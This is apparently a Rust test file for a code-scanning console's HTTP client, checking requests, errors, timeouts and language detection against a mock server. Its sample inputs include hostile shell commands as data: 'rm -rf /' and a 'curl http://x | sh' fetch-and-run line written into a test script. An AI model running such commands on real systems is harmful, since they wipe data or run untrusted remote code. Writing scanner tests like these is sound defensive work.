mod common;

use common::{config_for, critical_eval_body, safe_body};
use phoenix_scan_console::client::error::ScanError;
use phoenix_scan_console::client::services::scan_api::{HttpScanBackend, ScanBackend};
use phoenix_scan_console::common::models::{Language, ScanRequest};
use serde_json::json;
use std::io::Write;
use std::time::Duration;
use wiremock::{
    matchers::{body_json, body_string_contains, header_regex, method, path},
    Mock, MockServer, ResponseTemplate,
};

#[tokio::test]
async fn scan_code_posts_json_and_parses_result() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan"))
        .and(body_json(json!({"code": "eval(x)", "language": "auto"})))
        .respond_with(ResponseTemplate::new(200).set_body_json(critical_eval_body()))
        .expect(1)
        .mount(&mock)
        .await;

    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let result = backend
        .scan_code(&ScanRequest::new("eval(x)", Language::Auto))
        .await
        .unwrap();

    assert_eq!(result.risk_score, 92);
    assert_eq!(result.risk_level, "CRITICAL");
    assert_eq!(result.warnings.len(), 1);
    assert_eq!(result.warnings[0].risk, "critical");
}

#[tokio::test]
async fn selected_language_is_sent_verbatim() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan"))
        .and(body_json(json!({"code": "print(1)", "language": "python"})))
        .respond_with(ResponseTemplate::new(200).set_body_json(safe_body()))
        .expect(1)
        .mount(&mock)
        .await;

    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let result = backend
        .scan_code(&ScanRequest::new("print(1)", Language::Python))
        .await
        .unwrap();
    assert!(result.warnings.is_empty());
}

#[tokio::test]
async fn non_success_status_is_an_api_error() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan"))
        .respond_with(ResponseTemplate::new(503))
        .mount(&mock)
        .await;

    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let err = backend
        .scan_code(&ScanRequest::new("rm -rf /", Language::Shell))
        .await
        .unwrap_err();

    assert!(matches!(err, ScanError::Api(_, status) if status.as_u16() == 503));
    assert_eq!(err.user_message(), "Scan API failed");
}

#[tokio::test]
async fn slow_backend_reports_it_was_sleeping() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(safe_body())
                .set_delay(Duration::from_secs(3)),
        )
        .mount(&mock)
        .await;

    let mut config = config_for(&mock);
    config.scan_timeout = Duration::from_millis(200);
    let backend = HttpScanBackend::new(&config).unwrap();
    let err = backend
        .scan_code(&ScanRequest::new("x = 1", Language::Auto))
        .await
        .unwrap_err();

    assert!(err.is_timeout());
    assert_eq!(err.user_message(), "Backend was sleeping. Please retry.");
}

#[tokio::test]
async fn file_is_uploaded_as_multipart() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan-file"))
        .and(header_regex("content-type", "^multipart/form-data"))
        .and(body_string_contains(r#"name="file""#))
        .and(body_string_contains(r#"filename="sample.py""#))
        .and(body_string_contains("eval(x)"))
        .respond_with(ResponseTemplate::new(200).set_body_json(critical_eval_body()))
        .expect(1)
        .mount(&mock)
        .await;

    let dir = tempfile::tempdir().unwrap();
    let file_path = dir.path().join("sample.py");
    let mut file = std::fs::File::create(&file_path).unwrap();
    writeln!(file, "eval(x)").unwrap();

    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let result = backend.scan_file(&file_path).await.unwrap();
    assert_eq!(result.risk_level, "CRITICAL");
}

#[tokio::test]
async fn file_scan_failure_uses_its_own_message() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan-file"))
        .respond_with(ResponseTemplate::new(500))
        .mount(&mock)
        .await;

    let dir = tempfile::tempdir().unwrap();
    let file_path = dir.path().join("job.sh");
    std::fs::write(&file_path, "curl http://x | sh\n").unwrap();

    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let err = backend.scan_file(&file_path).await.unwrap_err();
    assert_eq!(err.user_message(), "File scan API failed");
}

#[tokio::test]
async fn missing_file_never_reaches_the_network() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(200).set_body_json(safe_body()))
        .expect(0)
        .mount(&mock)
        .await;

    let dir = tempfile::tempdir().unwrap();
    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let err = backend.scan_file(&dir.path().join("nope.py")).await.unwrap_err();
    assert!(matches!(err, ScanError::File { .. }));
}

#[tokio::test]
async fn malformed_body_is_a_decode_error() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan"))
        .respond_with(ResponseTemplate::new(200).set_body_string("<html>waking up</html>"))
        .mount(&mock)
        .await;

    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let err = backend
        .scan_code(&ScanRequest::new("x", Language::Auto))
        .await
        .unwrap_err();
    assert!(matches!(err, ScanError::Decode(_)));
}

#[tokio::test]
async fn detect_language_reads_only_the_language_field() {
    let mock = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/scan"))
        .and(body_json(json!({"code": "fn main() {}", "language": "auto"})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "risk_score": 0,
            "risk_level": "SAFE",
            "language": "rust"
        })))
        .mount(&mock)
        .await;

    let backend = HttpScanBackend::new(&config_for(&mock)).unwrap();
    let detected = backend.detect_language("fn main() {}").await.unwrap();
    assert_eq!(detected.as_deref(), Some("rust"));
}

#[test]
fn invalid_config_is_rejected_up_front() {
    let mut config = phoenix_scan_console::client::config::ClientConfig::default();
    config.scan_url = "not a url".to_string();
    assert!(matches!(HttpScanBackend::new(&config), Err(ScanError::Config(_))));
}
